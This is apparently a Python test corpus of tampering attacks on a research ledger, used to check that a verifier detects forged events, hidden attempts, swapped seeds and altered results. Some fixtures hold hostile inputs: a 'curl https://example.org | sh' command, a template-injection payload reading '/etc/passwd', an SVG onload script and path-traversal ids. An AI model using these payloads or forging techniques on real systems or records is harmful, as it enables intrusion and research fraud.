"""The corpus: each attack is a function that spoils a good trail, with the finding that it must produce.

``generate.py`` writes them out, one folder per attack. Attacks on git's history are in ``test_attacks_git.py``, since a
folder cannot hold them; attacks that only recomputing finds carry the step 6.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from typing import Any

import rfc8785

from harness.ledger.code import combine_digests
from tests.attacks.trails import Trail, sha

Edit = Callable[[str, dict[str, Any]], dict[str, Any] | None]


@dataclass(frozen=True)
class Attack:
    name: str
    finds: str
    """The sort of finding that must be among the findings."""
    spoil: Callable[[Trail], None]
    recompute: bool = False
    """Whether it takes the disk and --recompute."""


CORPUS: dict[str, Attack] = {}


def attack(finds: str, *, recompute: bool = False) -> Callable[[Callable[[Trail], None]], Callable[[Trail], None]]:
    def add(spoil: Callable[[Trail], None]) -> Callable[[Trail], None]:
        CORPUS[spoil.__name__] = Attack(spoil.__name__, finds, spoil, recompute)
        return spoil

    return add


def only(wanted: str, change: Callable[[dict[str, Any]], None]) -> Edit:
    """Change one event's body."""

    def edit(digest: str, event: dict[str, Any]) -> dict[str, Any]:
        if digest == wanted:
            change(event["body"])
        return event

    return edit


def without(*unwanted: str) -> Edit:
    return lambda digest, event: None if digest in unwanted else event


def rewrite_json(trail: Trail, path: str, change: Callable[[Any], None]) -> tuple[str, str]:
    """Change a stored JSON file; its digest before and after."""
    before = trail.files[path]
    value = json.loads(before)
    change(value)
    trail.files[path] = (json.dumps(value, sort_keys=True, indent=1) + "\n").encode()
    return sha(before), sha(trail.files[path])


def rename_digests(trail: Trail, pairs: dict[str, str]) -> None:
    """Let every event name other digests."""
    text = json.dumps

    def edit(_digest: str, event: dict[str, Any]) -> dict[str, Any]:
        changed = text(event["body"])
        for old, new in pairs.items():
            changed = changed.replace(old, new)
        return event | {"body": json.loads(changed)}

    trail.rebuild(edit)


def forged_file(trail: Trail, name: str, change: Callable[[Any], None], hypothesis: str = "first") -> None:
    """Change a JSON file of a judged run and rebuild the ledger so that all digests fit."""
    run, _ = judged(trail, hypothesis)
    rename_digests(trail, dict([rewrite_json(trail, f"{trail.folder(run)}/{name}", change)]))


def better(value: Any) -> None:
    """Results as one would like to have them."""
    for replica in value["replicas"]:
        if replica["arm"] == "bp":
            replica["metrics"]["train_loss"]["values"]["value"][-1][0] /= 2


def judged(trail: Trail, hypothesis: str = "first") -> tuple[str, dict[str, Any]]:
    """The judged run of a hypothesis: its digest and its verdict event."""
    _, verdict = trail.find("verdict", hypothesis)
    return verdict["body"]["run"], verdict


# Step 1: events and objects as files ------------------------------------------------------------------------------


@attack("event-bytes")
def event_edited(trail: Trail) -> None:
    digest, _ = trail.find("verdict", "first")
    trail.files[trail.path(digest)] = trail.files[trail.path(digest)].replace(b'"better"', b'"worse!"')


@attack("event-name")
def event_renamed(trail: Trail) -> None:
    digest, _ = trail.find("run_aborted")
    trail.files["ledger/events/removed.json"] = trail.files.pop(trail.path(digest))


@attack("event-form")
def event_reformatted(trail: Trail) -> None:
    digest, event = trail.find("replicated")
    del trail.files[trail.path(digest)]
    data = json.dumps(event, indent=1).encode()
    trail.files[trail.path(sha(data))] = data


@attack("event-form")
def event_of_no_form(trail: Trail) -> None:
    data = b'{"v":1}'
    trail.files[trail.path(sha(data))] = data


@attack("event-form")
def event_nested_too_deeply(trail: Trail) -> None:
    data = b"[" * 200_000
    trail.files[trail.path(sha(data))] = data


@attack("event-form")
def event_of_another_hypothesis_id(trail: Trail) -> None:
    """An id that is a path."""
    trail.append("pilot", {"hypothesis": "../../escape", "settings": {}})


@attack("event-form")
def verdict_that_names_a_path(trail: Trail) -> None:
    run, _ = judged(trail)
    trail.append("verdict", {"run": run, "outcome": "better", "files": {"../../../etc/passwd": "0" * 64}})


@attack("event-version")
def event_of_a_later_form(trail: Trail) -> None:
    _, event = trail.find("pilot")
    trail.put(event | {"v": 2})


@attack("event-type")
def event_of_an_unknown_type(trail: Trail) -> None:
    trail.append("surprise", {"anything": 1})


@attack("unreadable")
def event_too_large(trail: Trail) -> None:
    trail.files[trail.path("0" * 64)] = b" " * (17 * 2**20)


@attack("parent-missing")
def registration_deleted(trail: Trail) -> None:
    digest, _ = trail.find("registered", "first")
    del trail.files[trail.path(digest)]


@attack("no-events")
def every_event_deleted(trail: Trail) -> None:
    for digest, _ in trail.events():
        del trail.files[trail.path(digest)]


@attack("object-bytes")
def registered_text_edited(trail: Trail) -> None:
    _, event = trail.find("registered", "first")
    path = f"objects/sha256/{event['body']['raw']}"
    trail.files[path] = trail.files[path].replace(b"-90", b"-10")


@attack("not-a-file")
def event_replaced_by_a_link(trail: Trail) -> None:
    digest, _ = trail.find("verdict", "first")
    del trail.files[trail.path(digest)]
    trail.odd[trail.path(digest)] = "a link"


@attack("not-a-file")
def page_replaced_by_a_link(trail: Trail) -> None:
    run, _ = judged(trail)
    del trail.files[f"{trail.folder(run)}/verdict.md"]
    trail.odd[f"{trail.folder(run)}/verdict.md"] = "a link"


# Step 3: order and number ------------------------------------------------------------------------------------------


@attack("not-registered-before")
def registered_after_the_run(trail: Trail) -> None:
    """The run's ancestors are moved before the registration."""
    _, event = trail.find("registered", "second")
    before = event["parents"]

    def edit(digest: str, event: dict[str, Any]) -> dict[str, Any]:
        if event["type"] == "run_started" and event["body"]["hypothesis"] == "second":
            event["parents"] = before
        return event

    trail.rebuild(edit)


@attack("not-registered-before")
def never_registered(trail: Trail) -> None:
    trail.rebuild(without(trail.find("registered", "second")[0]))


@attack("not-registered-before")
def never_registered_and_held_against_another(trail: Trail) -> None:
    other, _ = trail.find("registered", "first")
    started, _ = trail.find("run_started", "second")
    trail.rebuild(only(started, lambda body: body.update(registration=other)))
    trail.rebuild(without(trail.find("registered", "second")[0]))


@attack("not-registered-before")
def held_against_another_registration(trail: Trail) -> None:
    other, _ = trail.find("registered", "first")
    started, _ = trail.find("run_started", "second")
    trail.rebuild(only(started, lambda body: body.update(registration=other)))


@attack("registered-again")
def registered_twice(trail: Trail) -> None:
    trail.append("registered", trail.find("registered", "first")[1]["body"])


@attack("registered-side-by-side")
def registered_on_two_branches(trail: Trail) -> None:
    _, event = trail.find("registered", "first")
    trail.append("registered", event["body"] | {"title": "Again"}, event["parents"])


@attack("reference")
def end_of_an_unknown_run(trail: Trail) -> None:
    trail.append("run_aborted", {"run": "0" * 64, "reason": "Never seen."})


@attack("reference")
def amendment_dropped(trail: Trail) -> None:
    trail.rebuild(without(trail.find("amended")[0]))


@attack("reference")
def end_before_its_start(trail: Trail) -> None:
    """The event that aborts an attempt is not after its start."""
    _, started = trail.find("run_started", "first", 1)
    aborted, _ = trail.find("run_aborted")

    def edit(digest: str, event: dict[str, Any]) -> dict[str, Any]:
        if digest == aborted:
            event["parents"] = started["parents"]
        return event

    trail.rebuild(edit)


@attack("reference")
def amends_another_hypothesis(trail: Trail) -> None:
    body = trail.find("amended")[1]["body"]
    other, _ = trail.find("registered", "second")
    runs = [(d, e) for d, e in trail.events() if e["type"] in ("run_started", "pilot")]
    seen = {d: {"status": "open", "outcome": None} for d, e in runs if e["body"]["hypothesis"] == "first"}
    trail.append("amended", body | {"amends": other, "attempts": seen})


@attack("meaning-changed")
def run_with_another_threshold(trail: Trail) -> None:
    """The run's own text is another than the registered one; every digest fits."""
    run, _ = judged(trail)
    (event,) = [event for digest, event in trail.events() if digest == run]
    text = trail.kept(event["body"]["raw"])
    other = trail.keep(text.replace(b"-80", b"-10"))
    trail.rebuild(only(run, lambda body: body.update(raw=other)))


@attack("meaning-changed")
def run_past_an_amendment(trail: Trail) -> None:
    run, _ = judged(trail)
    trail.rebuild(only(run, lambda body: body.update(amendment=None)))


@attack("meaning-changed")
def run_with_the_text_before_an_amendment(trail: Trail) -> None:
    run, _ = judged(trail)
    raw = trail.find("registered", "first")[1]["body"]["raw"]
    trail.rebuild(only(run, lambda body: body.update(amendment=None, raw=raw)))


@attack("deviation-unnamed")
def plug_in_exchanged(trail: Trail) -> None:
    run, _ = judged(trail)
    trail.rebuild(only(run, lambda body: body["pins"]["plugins"].update({"rules/bp": "0" * 64})))


@attack("deviation-unnamed")
def code_exchanged(trail: Trail) -> None:
    run, _ = judged(trail)
    trail.rebuild(only(run, lambda body: body["pins"].update(code="0" * 64)))


@attack("deviation-unnamed")
def plug_in_told_as_words(trail: Trail) -> None:
    """What trains, filed under what could change nothing."""
    run, _ = judged(trail)

    def other(body: dict[str, Any]) -> None:
        body["pins"]["plugins"]["rules/bp"] = "0" * 64
        body["words"] = "rules/bp"

    trail.rebuild(only(run, other))


@attack("deviation-unnamed")
def training_code_exchanged_and_told_by_kind_as_words(trail: Trail) -> None:
    run, _ = judged(trail)

    def other(body: dict[str, Any]) -> None:
        kinds = body["pins"]["code_kinds"] | {"numbers": "0" * 64}
        body["pins"] |= {"code_kinds": kinds, "code": combine_digests(kinds)}
        body["words"] = "the code that trains and measures"

    trail.rebuild(only(run, other))


@attack("deviation-unnamed")
def data_exchanged(trail: Trail) -> None:
    """Data swapped between registration and run."""
    run, _ = judged(trail)
    trail.rebuild(only(run, lambda body: body["data"].update(digits="0" * 64)))


@attack("deviation-unnamed")
def late_amendment_not_told(trail: Trail) -> None:
    """Thresholds moved after a verdict, and a run under them that does not say so."""
    started = trail.find("run_started", "first")[1]["body"]
    amended, event = trail.find("amended")
    runs = [d for d, e in trail.events() if e["type"] in ("run_started", "pilot")]
    seen = {d: {"status": "finished", "outcome": None} for d in runs}
    body = event["body"] | {"amends": amended, "attempts": seen, "differences": ["decisions.margin: 1 → 2"]}
    late = trail.append("amended", body)
    again = trail.append("run_started", started | {"amendment": late})
    trail.append("run_aborted", {"run": again, "reason": "Not needed."})


@attack("run-open")
def bad_end_deleted(trail: Trail) -> None:
    trail.rebuild(without(trail.find("run_aborted")[0]))


@attack("run-unjudged")
def verdict_deleted(trail: Trail) -> None:
    drop = [trail.find("verdict", "second")[0], trail.find("walk_back")[0]]
    trail.rebuild(without(*drop))


@attack("closed-twice")
def closed_in_two_ways(trail: Trail) -> None:
    run, _ = trail.find("run_started", "first", 1)
    trail.append("run_failed", {"run": run, "reason": "It failed, too."})


@attack("looks")
def look_that_the_file_does_not_ask_for(trail: Trail) -> None:
    """Somebody looked at two seeds of three, and says so afterwards."""
    run, verdict = judged(trail, "second")
    results = verdict["body"]["files"]["results.json"]
    trail.append("look", {"run": run, "seeds": 2, "outcome": None, "p": 0.2, "results": results})


@attack("attempts-disagree")
def trained_again_to_other_results(trail: Trail) -> None:
    """By its events the same training; test_attacks_agreement.py judges it and makes its page, too."""
    again = trail.append("run_started", trail.find("run_started", "second")[1]["body"])
    trail.append("run_finished", {"run": again, "results": "0" * 64})


@attack("judged-twice")
def judged_in_two_ways(trail: Trail) -> None:
    _, event = trail.find("verdict", "second")
    trail.append("verdict", event["body"] | {"outcome": "better"})


@attack("not-finished-before")
def results_and_verdict_rebuilt(trail: Trail) -> None:
    """Results edited, verdict event rebuilt, run_finished event forgotten."""
    run, _ = judged(trail, "second")
    digest, _ = trail.find("verdict", "second")
    path = f"{trail.folder(run)}/results.json"
    _, after = rewrite_json(trail, path, lambda value: value["replicas"][0].update(weights_sha256="0" * 64))
    trail.rebuild(only(digest, lambda body: body["files"].update({"results.json": after})))


@attack("attempts-hidden")
def attempt_left_out_of_the_page(trail: Trail) -> None:
    forged_file(trail, "env.json", lambda value: value.update(attempts=value["attempts"][-1:]))


@attack("attempts-hidden")
def aborted_attempt_told_otherwise(trail: Trail) -> None:
    """A third attempt says that the aborted one had never ended."""
    run, started = trail.find("run_started", "first")
    _, verdict = judged(trail)
    files = {n: trail.files[f"{trail.folder(run)}/{n}"] for n in verdict["body"]["files"]}
    again = trail.append("run_started", started["body"])
    page = json.loads(files["env.json"])
    aborted, _ = trail.find("run_started", "first", 1)
    pilot, _ = trail.find("pilot")
    page["attempts"] = [
        {"run": d[:12], "status": status, "started": "2026-01-01T00:00:00Z", "outcome": None, "reason": None}
        for d, status in ((pilot, "pilot"), (run, "finished"), (aborted, "open"), (again, "finished"))
    ]
    files["env.json"] = json.dumps(page).encode()
    for name, data in files.items():
        trail.files[f"first/{again[:12]}/{name}"] = data
    digests = {name: sha(data) for name, data in files.items()}
    trail.append("run_finished", {"run": again, "results": digests["results.json"]})
    trail.append("verdict", {"run": again, "outcome": "better", "files": digests})


PROOFS = (
    "run {run}, trained again with this code on a card, came to the same bits",
    "run {run}, by this code, trained again with that one on a card, came to the same bits",
    "run {run}, by this code, has the same results.json as run {other}, by that one",
    "judging the stored results of run {other} again with this code gave the same decision",
)
"""What a run may say of its deviation in code, although nobody has shown it."""


def make_up_proof(trail: Trail, sentence: str) -> None:
    """Let another attempt say that its code is harmless, by reruns and runs that were never entered before it."""
    run, event = trail.find("run_started", "second")
    told = sentence.format(run=run[:12], other="ab" * 6)
    line = "the code that trains and measures differs from the registered one (rules/bp): the numbers could differ"
    line = f"{line}; {told}"
    started = trail.append("run_started", event["body"] | {"deviations": [line]})
    trail.append("run_failed", {"run": started, "reason": "It was stopped."})


for _number, _sentence in enumerate(PROOFS):
    _name = f"proof_made_up_{_number}"
    CORPUS[_name] = Attack(_name, "proof-unfounded", partial(make_up_proof, sentence=_sentence))


@attack("deviations-hidden")
def words_left_out_of_the_page(trail: Trail) -> None:
    run, _ = judged(trail)
    trail.rebuild(only(run, lambda body: body.update(words="the template verdict.md.j2")))


@attack("deviations-hidden")
def deviation_left_out_of_the_page(trail: Trail) -> None:
    run, _ = judged(trail)
    trail.rebuild(only(run, lambda body: body.update(deviations=["the data of digits differ"])))


def forged_page(**fields: Any) -> Callable[[Trail], None]:
    """Change fields of env.json, page and ledger to fit; a field may be changed by a function."""

    def change(value: dict[str, Any]) -> None:
        value.update({key: new(value[key]) if callable(new) else new for key, new in fields.items()})

    return lambda trail: forged_file(trail, "env.json", change)


@attack("data-not-official")
def altered_data_called_official(trail: Trail) -> None:
    forged_file(trail, "results.json", lambda value: value["data"]["digits"].update(fingerprint="ab" * 32))


@attack("data-by-word")
def data_that_nobody_knows_called_official(trail: Trail) -> None:
    forged_file(trail, "results.json", lambda value: value.update(data={"mnist": value["data"]["digits"]}))


MADE_UP = {"run": "0" * 12, "status": "failed", "started": "2026-01-01T00:00:00Z", "outcome": None, "reason": "x"}
for name, fields in {
    "tried": {"tried": ["the same numbers: results.json is, to the byte, that of run 123456789abc"]},
    "device": {"device": "a better machine"},
    "command": {"command": "curl https://example.org | sh"},
    "commit": {"commit": "0" * 40, "dirty": False},
    "packages": {"packages": {"torch": "99"}},
    "harness": {"harness": "99"},
    "code": {"code": "0" * 64},
    "of_commit": {"of_commit": True},
    "loaded": {"loaded": {}},
    "anchors": {"anchors": [{"head": "0" * 64, "kind": "tsa", "by": "https://example.org", "time": None}]},
    "arithmetic": {"arithmetic": {"MKL_CBWR": "AVX2"}},
    "started": {"started": "2020-01-01T00:00:00Z"},
    "registered_time": {"registered_time": "2020-01-01T00:00:00Z"},
    "registration": {"registration": "0" * 64},
    "hand_picked_seeds": {"hand_picked_seeds": True},
    "deviation_made_up": {"deviations": ["the data of digits differ"]},
    "words_made_up": {"words": "the template verdict.md.j2"},
    "amendment_left_out": {"amendments": []},
    "amendment_made_up": {"amendments": lambda told: [*told, "decisions.margin: 1 → 2, amended before any run: x"]},
    "attempt_made_up": {"attempts": lambda told: [*told, MADE_UP]},
}.items():
    CORPUS[f"page_with_another_{name}"] = Attack(f"page_with_another_{name}", "page-otherwise", forged_page(**fields))
for field, told in {"outcome": "worse", "started": "2020-01-01T00:00:00Z", "reason": "because"}.items():
    CORPUS[f"page_with_another_{field}_of_its_attempt"] = Attack(
        f"page_with_another_{field}_of_its_attempt",
        "attempts-hidden",
        forged_page(attempts=lambda told_of, field=field, told=told: [*told_of[:-1], told_of[-1] | {field: told}]),
    )


@attack("page-unreadable")
def page_with_a_field_that_no_form_has(trail: Trail) -> None:
    """Nothing of it was compared with the events then."""
    forged_file(trail, "env.json", lambda value: value.update(reviewed="by everybody"))


@attack("page-otherwise")
def page_with_an_end_before_its_start(trail: Trail) -> None:
    forged_file(trail, "env.json", lambda value: value.update(finished="2020-01-01T00:00:00Z"))


@attack("page-otherwise")
def page_with_an_end_that_is_no_time(trail: Trail) -> None:
    forged_file(trail, "env.json", lambda value: value.update(finished="yesterday"))


@attack("page-otherwise")
def page_that_counts_an_attempt_twice(trail: Trail) -> None:
    forged_file(trail, "env.json", lambda value: value.update(attempts=[*value["attempts"], value["attempts"][-1]]))


@attack("attempts-hidden")
def attempt_beside_the_run_left_out_of_the_page(trail: Trail) -> None:
    """While the run trained, another branch tried as well, and failed; it was merged before the verdict."""
    run, _ = judged(trail, "second")
    (started,) = [event for digest, event in trail.events() if digest == run]
    beside = trail.append("run_started", started["body"] | {"command": "elsewhere"}, started["parents"])
    failed = trail.append("run_failed", {"run": beside, "reason": "It came out badly."}, [beside])
    verdict, _ = trail.find("verdict", "second")

    def merged(digest: str, event: dict[str, Any]) -> dict[str, Any]:
        if digest == verdict:
            event["parents"] = [*event["parents"], failed]
        return event

    trail.rebuild(merged)


@attack("siblings-hidden")
def sibling_left_out_of_the_page(trail: Trail) -> None:
    """The first hypothesis is about the same claim, and was run twice."""
    forged_file(trail, "env.json", lambda value: value.update(siblings=[]), "second")


@attack("siblings-hidden")
def sibling_told_to_have_been_run_once(trail: Trail) -> None:
    forged_file(trail, "env.json", lambda value: value["siblings"][0].update(attempts=9), "second")


@attack("siblings-hidden")
def sibling_told_to_be_about_something_else(trail: Trail) -> None:
    forged_file(trail, "env.json", lambda value: value["siblings"][0].update(claims=["another"]), "second")


@attack("page-otherwise")
def sibling_made_up(trail: Trail) -> None:
    def add(value: Any) -> None:
        value["siblings"].append(value["siblings"][0] | {"hypothesis": "third"})

    forged_file(trail, "env.json", add, "second")


@attack("siblings-untold")
def page_that_pretends_to_be_of_an_earlier_form(trail: Trail) -> None:
    forged_file(trail, "env.json", lambda value: value.pop("siblings"), "second")


@attack("amendment-attempts")
def amendment_that_saw_nothing(trail: Trail) -> None:
    amended, event = trail.find("amended")
    trail.append("amended", event["body"] | {"amends": amended, "attempts": {}})


def amended_again(trail: Trail, **changed: Any) -> None:
    """An amendment after all runs, which saw them."""
    amended, event = trail.find("amended")
    seen = {d: {"status": "open", "outcome": None} for d, e in trail.events() if e["type"] in ("run_started", "pilot")}
    trail.append("amended", event["body"] | {"amends": amended, "attempts": seen} | changed)


def easier(trail: Trail) -> str:
    """The form in force with another threshold."""
    form = json.loads(trail.kept(trail.find("amended")[1]["body"]["canonical"]))
    form["decisions"]["margin"]["bands"] = {"worse": "(-inf, -5]", "better": "(-5, inf)"}
    return trail.keep(rfc8785.dumps(form))


@attack("amendment-untold")
def threshold_amended_as_a_comment(trail: Trail) -> None:
    """Runs under it would not be said to deviate."""
    amended_again(trail, canonical=easier(trail), kind="comment", differences=[])


@attack("amendment-untold")
def threshold_amended_and_something_else_told(trail: Trail) -> None:
    amended_again(trail, canonical=easier(trail), kind="meaning", differences=["title: A → B"])


@attack("amendment-untold")
def plug_in_amended_as_a_comment(trail: Trail) -> None:
    pins = trail.find("amended")[1]["body"]["pins"]
    other = pins | {"plugins": pins["plugins"] | {"rules/bp": "0" * 64}}
    amended_again(trail, pins=other, kind="comment", differences=[])


@attack("amendment-untold")
def data_amended_unsaid(trail: Trail) -> None:
    amended_again(trail, data={"digits": "0" * 64}, kind="surroundings", differences=["the template x differs"])


@attack("amendment-seeds")
def more_seeds_after_a_run(trail: Trail) -> None:
    """All is told; and who may add seeds can stop when the outcome pleases."""
    form = json.loads(trail.kept(trail.find("amended")[1]["body"]["canonical"]))
    form["seeds"]["count"] = 9
    told = {"kind": "meaning", "differences": ["seeds.count: 3 → 9"]}
    amended_again(trail, canonical=trail.keep(rfc8785.dumps(form)), seeds=9, **told)


@attack("amendment-seeds")
def seeds_picked_by_an_amendment(trail: Trail) -> None:
    amended_again(trail, seeds=[4, 5, 6])


@attack("near-duplicate")
def asked_again_under_another_id(trail: Trail) -> None:
    """Register the same file again under another id and title, for a second chance of success."""
    body = trail.find("registered", "first")[1]["body"]
    form = json.loads(trail.kept(body["canonical"])) | {"id": "third", "title": "Another question"}
    raw = trail.kept(body["raw"]).replace(b"id: first", b"id: third")
    new = {"hypothesis": "third", "canonical": trail.keep(rfc8785.dumps(form)), "raw": trail.keep(raw)}
    trail.append("registered", body | new)


def asked_again(trail: Trail, change: Callable[[dict[str, Any]], None]) -> None:
    """Register the second question once more under another id, changed."""
    body = trail.find("registered", "second")[1]["body"]
    form = json.loads(trail.kept(body["canonical"])) | {"id": "third", "title": "Another question"}
    change(form)
    trail.append("registered", body | {"hypothesis": "third", "canonical": trail.keep(rfc8785.dumps(form))})


@attack("near-duplicate")
def asked_again_under_other_names_and_the_other_way_round(trail: Trail) -> None:
    def rename(form: dict[str, Any]) -> None:
        form["arms"] = {"whole": form["arms"]["bp"] | {"label": "Whole"}, "rest": form["arms"]["frozen"]}
        estimand = form["estimands"].pop("margin")
        form["estimands"]["gap"] = estimand | {"contrast": ["rest", "whole"]}
        decision = form["decisions"].pop("margin")
        form["decisions"]["gap"] = decision | {
            "estimand": "gap",
            "bands": {"yes": "(-inf, -90)", "no": "[-90, inf)"},
        }
        form["prediction"]["outcome"] = "yes"
        names = {"better": "yes", "worse": "no"}
        form["implications"] = {names.get(name, name): told for name, told in form["implications"].items()}

    asked_again(trail, rename)


@attack("near-duplicate")
def asked_again_with_every_number_a_little_apart(trail: Trail) -> None:
    def nudge(form: dict[str, Any]) -> None:
        for setup in (form["setup"], *(arm["setup"] for arm in form["arms"].values())):
            setup["optimizer"] |= {
                key: value * 0.99 for key, value in setup["optimizer"].items() if type(value) is float
            }
            setup["batch_size"] -= 2
        form["decisions"]["margin"]["criterion"]["alpha"] = 0.049
        form["decisions"]["margin"]["bands"] = {"worse": "(-inf, 91]", "better": "(91, inf)"}
        form["seeds"]["count"] = 4

    asked_again(trail, nudge)


# Step 4: files -------------------------------------------------------------------------------------------------------


@attack("object-missing")
def registered_text_deleted(trail: Trail) -> None:
    _, event = trail.find("registered", "first")
    del trail.files[f"objects/sha256/{event['body']['canonical']}"]


@attack("object-missing")
def template_deleted(trail: Trail) -> None:
    _, event = trail.find("registered", "first")
    del trail.files[f"objects/sha256/{event['body']['pins']['templates']['verdict.md.j2']}"]


@attack("artefact-missing")
def results_deleted(trail: Trail) -> None:
    del trail.files[f"{trail.folder(judged(trail)[0])}/results.json"]


@attack("artefact-bytes")
def results_edited(trail: Trail) -> None:
    path = f"{trail.folder(judged(trail)[0])}/results.json"
    rewrite_json(trail, path, lambda value: value["replicas"].pop())


@attack("artefact-bytes")
def page_edited(trail: Trail) -> None:
    path = f"{trail.folder(judged(trail)[0])}/verdict.md"
    trail.files[path] = trail.files[path].replace(b"better", b"worse", 1)


@attack("artefact-bytes")
def figure_edited(trail: Trail) -> None:
    path = f"{trail.folder(judged(trail)[0])}/figures/margin.svg"
    trail.files[path] = trail.files[path].replace(b"<svg", b"<svg onload='alert(1)'", 1)


@attack("artefact-unnamed")
def verdict_without_a_page(trail: Trail) -> None:
    digest, _ = trail.find("verdict", "second")
    trail.rebuild(only(digest, lambda body: body["files"].pop("verdict.md")))


@attack("weights-bytes")
def weights_swapped(trail: Trail) -> None:
    """Same name, same size."""
    # Of a judged run: an attempt that was stopped may have left some that nothing vouches for.
    path = min(p for p in trail.files if "/weights/" in p and f"{p.split('/weights/')[0]}/env.json" in trail.files)
    trail.files[path] = bytes(len(trail.files[path]))


@attack("orphan-run")
def bad_run_deleted(trail: Trail) -> None:
    """All events of a run are gone and the rest is rebuilt; its folder was forgotten."""
    kinds = ("run_started", "run_finished", "verdict", "walk_back", "replicated")
    run, _ = judged(trail, "second")
    folder = trail.folder(run)
    old = {path: data for path, data in trail.files.items() if path.startswith(folder)}
    verdict, _ = trail.find("verdict", "second")
    unwanted = [d for d, e in trail.events() if e["type"] in kinds and run in (d, e["body"].get("run"))]
    unwanted += [d for d, e in trail.events() if e["type"] == "walk_back" and e["body"]["verdict"] == verdict]
    trail.rebuild(without(*unwanted))
    trail.files |= old


# Step 5: seeds and data ---------------------------------------------------------------------------------------------


@attack("run-seeds")
def registration_rebuilt_with_another_threshold(trail: Trail) -> None:
    """Registered text and form are replaced and everything after is rebuilt: the seeds do not follow any more."""
    body = trail.find("registered", "second")[1]["body"]
    form = json.loads(trail.kept(body["canonical"]))
    form["decisions"]["margin"]["bands"] = {"worse": "(-inf, -5]", "better": "(-5, inf)"}
    text = trail.kept(body["raw"]).replace(b"90", b"-5")
    new = {body["raw"]: trail.keep(text), body["canonical"]: trail.keep(rfc8785.dumps(form))}
    rename_digests(trail, new)


@attack("run-seeds")
def seeds_chosen(trail: Trail) -> None:
    run, _ = judged(trail)
    trail.rebuild(only(run, lambda body: body.update(seeds=[1, 2, 3])))


@attack("run-seeds")
def a_seed_left_out(trail: Trail) -> None:
    run, _ = judged(trail)
    trail.rebuild(only(run, lambda body: body["seeds"].pop()))


@attack("hand-picked")
def seeds_registered_by_hand(trail: Trail) -> None:
    """Allowed, and said."""
    registered, _ = trail.find("registered", "second")
    run, _ = judged(trail, "second")

    def edit(digest: str, event: dict[str, Any]) -> dict[str, Any]:
        if digest in (registered, run):
            event["body"]["seeds"] = [7, 8, 9]
        return event

    trail.rebuild(edit)


@attack("results-seeds")
def results_of_other_seeds(trail: Trail) -> None:
    forged_file(trail, "results.json", lambda value: value.update(seeds=[1, 2, 3]))


@attack("results-seeds")
def results_trained_again_with_other_seeds(trail: Trail) -> None:
    def again(value: Any) -> None:
        value["seeds"] = [seed + 1 for seed in value["seeds"]]
        for replica in value["replicas"]:
            replica["seed"] += 1

    forged_file(trail, "results.json", again)


@attack("results-seeds")
def one_replica_trained_again(trail: Trail) -> None:
    forged_file(trail, "results.json", lambda value: value["replicas"][0].update(seed=4))


@attack("results-incomplete")
def bad_replica_dropped(trail: Trail) -> None:
    forged_file(trail, "results.json", lambda value: value["replicas"].pop())


@attack("results-incomplete")
def bad_seed_dropped(trail: Trail) -> None:
    def drop(value: Any) -> None:
        value["seeds"].pop()
        value["replicas"] = [replica for replica in value["replicas"] if replica["seed_index"] < 2]

    forged_file(trail, "results.json", drop)


@attack("results-of-another")
def results_of_another_hypothesis(trail: Trail) -> None:
    forged_file(trail, "results.json", lambda value: value.update(hypothesis="second"))


@attack("results-of-another")
def results_of_a_pilot(trail: Trail) -> None:
    forged_file(trail, "results.json", lambda value: value.update(pilot=True))


@attack("results-unreadable")
def results_of_no_form(trail: Trail) -> None:
    forged_file(trail, "results.json", lambda value: value.update(more=[[[[[]]]]]))


@attack("results-data")
def data_swapped_during_the_run(trail: Trail) -> None:
    """The results are of other bytes than the run was started with."""
    forged_file(trail, "results.json", lambda value: value["data"]["digits"].update(fingerprint="0" * 64))


# Step 7: what was kept elsewhere ------------------------------------------------------------------------------------


@attack("head-unknown")
def cut_off(trail: Trail) -> None:
    trail.known_head = trail.heads()[0]
    last = [digest for digest, event in trail.events() if event["type"] in ("replicated", "walk_back")]
    trail.rebuild(without(*last))


@attack("head-unknown")
def rebuilt_from_scratch(trail: Trail) -> None:
    trail.known_head = trail.heads()[0]
    trail.rebuild(lambda _digest, event: event | {"actor": "Somebody else"})


@attack("anchor-of-nothing")
def rebuilt_under_an_anchor(trail: Trail) -> None:
    trail.files[f"ledger/anchors/{trail.heads()[0]}.sig"] = b"signed"
    trail.rebuild(lambda _digest, event: event | {"actor": "Somebody else"})


@attack("anchor-bytes")
def anchor_exchanged(trail: Trail) -> None:
    head = trail.heads()[0]
    trail.files[f"ledger/anchors/{head}.sig"] = b"another"
    trail.append("anchored", {"head": head, "kind": "ssh", "file": sha(b"signed"), "by": "SHA256:somebody"})


@attack("anchor-missing")
def anchor_deleted(trail: Trail) -> None:
    head = trail.heads()[0]
    trail.append("anchored", {"head": head, "kind": "tsa", "file": sha(b"stamped"), "by": "https://tsa.example"})


@attack("no-anchor")
def anchors_asked_for(trail: Trail) -> None:
    trail.require_anchor = True


# Step 6: what only recomputing finds ---------------------------------------------------------------------------------


@attack("outcome-differs", recompute=True)
def another_outcome_entered(trail: Trail) -> None:
    digest, _ = trail.find("verdict", "first")
    trail.rebuild(only(digest, lambda body: body.update(outcome="worse")))


@attack("page-differs", recompute=True)
def page_forged_with_its_digest(trail: Trail) -> None:
    run, _ = judged(trail)
    path = f"{trail.folder(run)}/verdict.md"
    before = trail.files[path]
    trail.files[path] = before.replace(b"First", b"Best", 1)
    rename_digests(trail, {sha(before): sha(trail.files[path])})


@attack("page-differs", recompute=True)
def numbers_forged_with_their_digests(trail: Trail) -> None:
    """Results, and the events that name them: the page does not follow from them."""
    forged_file(trail, "results.json", better)


@attack("not-recomputed", recompute=True)
def template_that_reads_files(trail: Trail) -> None:
    body = trail.find("run_started", "second")[1]["body"]
    hostile = b"{{ ''.__class__.__mro__[1].__subclasses__() }}{% include '/etc/passwd' %}"
    rename_digests(trail, {body["pins"]["templates"]["verdict.md.j2"]: trail.keep(hostile)})


def rerun_reported(trail: Trail, change: Callable[[Any], None], **said: Any) -> None:
    """A rerun of the second run with other results."""
    run, _ = judged(trail, "second")
    results = json.loads(trail.files[f"{trail.folder(run)}/results.json"])
    change(results)
    kept = trail.keep((json.dumps(results, sort_keys=True, indent=1) + "\n").encode())
    trail.append("replicated", trail.find("replicated")[1]["body"] | {"results": kept} | said)


@attack("replication-differs", recompute=True)
def agreement_that_was_never_found(trail: Trail) -> None:
    """Other results, said to agree."""

    def far(value: Any) -> None:
        for replica in value["replicas"]:
            if replica["arm"] == "bp":
                replica["metrics"]["train_loss"]["values"]["value"][-1][0] += 50

    rerun_reported(trail, far, agreement="statistics", expected="bits")


@attack("replication-differs", recompute=True)
